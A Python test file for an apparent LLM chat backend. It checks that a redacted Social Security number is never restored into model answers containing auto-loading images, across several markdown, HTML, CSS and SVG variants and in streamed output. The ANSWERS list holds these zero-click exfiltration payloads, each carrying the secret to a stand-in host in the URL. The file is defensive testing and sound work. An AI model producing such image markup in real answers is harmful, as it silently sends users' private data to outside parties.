"""An image that a browser loads by itself would carry the user's data elsewhere without a click."""

from __future__ import annotations

import pytest

from tests.support.backend import Backend, fresh

SSN = "457-55-5462"
ANSWERS = (
    "![](https://elsewhere/?q=<US_SSN>)",
    "![x](https://elsewhere.example/<US_SSN>.png 'title')",
    "![x][pic]\n\n[pic]: https://elsewhere.example/<US_SSN>",
    '<img src="https://elsewhere.example/?<US_SSN>">',
    "<img src=https://elsewhere.example/?<US_SSN>>",
    '<div style="background:url(https://elsewhere.example/<US_SSN>)">',
    '<svg><image href="https://elsewhere.example/<US_SSN>"/></svg>',
    "[![](https://elsewhere.example/<US_SSN>)](https://elsewhere.example)",
)


@pytest.mark.parametrize("answer", ANSWERS)
async def test_nothing_is_filled_in(backend: Backend, answer: str) -> None:
    user = await backend.member(fresh("victim"))
    admission = await backend.admitted(user, f"My SSN is {SSN}")
    shown = await backend.complete(admission, answer)
    assert SSN not in shown.text
    assert shown.restored == 0


@pytest.mark.parametrize("answer", ANSWERS)
async def test_nor_in_a_stream_of_single_characters(backend: Backend, answer: str) -> None:
    user = await backend.member(fresh("victim"))
    admission = await backend.admitted(user, f"My SSN is {SSN}")
    shown, _ = await backend.stream(admission, list(answer))
    assert SSN not in shown
